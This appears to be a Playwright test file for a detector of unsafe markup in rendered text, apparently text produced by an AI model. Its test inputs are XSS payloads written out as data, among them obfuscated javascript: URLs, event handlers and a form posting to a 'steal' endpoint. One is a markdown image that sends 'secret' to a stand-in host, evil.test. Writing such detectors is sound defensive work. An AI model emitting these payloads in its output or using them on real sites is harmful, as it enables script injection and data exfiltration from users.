import { expect, test } from '@playwright/test';
import { unsafeMarkup } from '../../../../harness/metrics/unsafe-markup.ts';

test('finds markup that runs or calls out where it would be shown', () => {
  const cases: readonly (readonly [string, readonly string[]])[] = [
    ['Hi <script>alert(1)</script>', ['script']],
    ['Hi < SCRIPT src=//x.y/z.js>', ['script']],
    ['<img src=x onerror=alert(1)>', ['handler']],
    ['<svg/onload=alert(1)>', ['handler']],
    ['[click](javascript:alert(1))', ['script-url']],
    ['<a href="data:text/html,hello">', ['script-url']],
    ['<iframe src="https://a.b"></iframe>', ['frame']],
    ['<form action="https://a.b/steal">', ['form']],
    ['![](https://evil.test/p.png?said=secret)', ['remote-image']],
    ['<style>body{background:url(//a.b)}</style>', ['style']],
    ['<img alt="a > b" src=x onerror=alert(1)>', ['handler']],
    ['<a href="java\tscript:alert(1)">x</a>', ['script-url']],
    ['<a href="&#106;avascript&colon;alert(1)">x</a>', ['script-url']],
    ['<javascript:alert(1)>', ['script-url']],
    ['[x]: javascript:alert(1)', ['script-url']],
    // A span of three backticks is closed on its line: what follows is shown as it is.
    ['```code``` <script>alert(1)</script>', ['script']],
    ['```\ncode\n```\n<script>alert(1)</script>', ['script']],
  ];
  for (const [text, kinds] of cases) expect(unsafeMarkup(text), text).toEqual(kinds);
});

test('leaves code, plain markup and talk about markup alone', () => {
  for (const text of [
    'Use `<script>` in the head.',
    '```html\n<script>alert(1)</script>\n<iframe></iframe>\n```\nThat is all.',
    '<b>bold</b> and <a href="https://a.b/c">a link</a>',
    '![a cat](https://a.b/cat.png)',
    'A script tag runs JavaScript: beware of onclick handlers.',
    'if a < b and b > c, on = 3',
    '[Basics](javascript-basics.html) and <a href="javascript-guide.html">more</a>',
    'let data = "javascript";',
    '````md\n```\n<script>alert(1)</script>\n```\n````\nThat is all.',
    '```\n<script>alert(1)</script>',
    '',
  ]) {
    expect(unsafeMarkup(text), text).toEqual([]);
  }
});
